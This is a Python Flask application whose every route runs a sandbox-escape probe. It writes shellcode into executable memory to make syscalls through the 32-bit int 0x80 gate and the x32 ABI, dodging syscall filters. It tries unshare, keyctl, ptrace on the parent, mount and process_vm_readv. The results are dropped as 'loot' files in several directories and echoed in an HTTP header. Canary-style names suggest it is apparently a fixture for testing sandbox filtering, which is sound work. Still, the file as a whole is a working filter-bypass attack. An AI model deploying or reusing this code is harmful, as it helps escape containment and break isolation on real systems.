"""The same calls under other numbers."""

from pathlib import Path
import contextlib
import ctypes
import mmap
import os
import platform
import struct

from flask import Flask

libc = ctypes.CDLL(None, use_errno=True)
KEYCTL, GETPID, UNSHARE, PTRACE, MOUNT, ADD_KEY, SOCKETCALL, CHROOT = 288, 20, 310, 26, 21, 286, 102, 61


def code(number, *arguments):
    """Return a function that calls *number* with int 0x80 and returns the result."""
    registers = [0xBB, 0xB9, 0xBA, 0xBE, 0xBF]  # ebx, ecx, edx, esi, edi
    text = b"\x53"  # push rbx
    text += b"".join(bytes([r]) + struct.pack("<I", a & 0xFFFFFFFF) for r, a in zip(registers, arguments))
    text += b"\xb8" + struct.pack("<I", number) + b"\xcd\x80\x5b\xc3"  # int 0x80; pop rbx; ret
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(text)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))


def attempt(what, function):
    """Call *function* in a process of its own, and tell if it came back with a result."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        with contextlib.suppress(BaseException):
            result = function()
            os.write(writer, f"{what}: {result};".encode())
        os._exit(0)
    os.close(writer)
    told = os.read(reader, 4096).decode()
    os.close(reader)
    os.waitpid(pid, 0)
    return told


def attack():
    if platform.machine() != "x86_64":
        return []
    found = [
        attempt("getpid", lambda: code(GETPID)()),
        attempt("unshare", lambda: code(UNSHARE, 0x10000000)()),
        attempt("keyctl", lambda: code(KEYCTL, 0, -3, 1)()),
        attempt("ptrace", lambda: code(PTRACE, 16, os.getppid())()),
        attempt("mount", lambda: code(MOUNT, 0, 0, 0)()),
        attempt("x32 getpid", lambda: libc.syscall(0x40000000 | 39)),
        attempt("x32 unshare", lambda: libc.syscall(0x40000000 | 272, 0x10000000)),
        attempt("x32 ptrace", lambda: libc.syscall(0x40000000 | 521, 16, os.getppid(), 0, 0)),
        attempt("x32 process_vm_readv", lambda: libc.syscall(0x40000000 | 539, 1, 0, 0, 0, 0, 0)),
    ]
    return [*filter(None, found)]


def tell(found):
    """Report through every channel there is."""
    text = repr(found)
    print(text, flush=True)
    for place in ("/tmp", "/dev/shm", "/box/data", ".", "/var/tmp", "CANARY_FILE.d"):
        with contextlib.suppress(OSError):
            Path(place, "CANARY_SECRET_PREFIXloot").write_text(text)
    return {"loot": found}, 200, {"X-Loot": text[:2000].encode("ascii", "replace").decode()}


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return tell(attack())

    return app
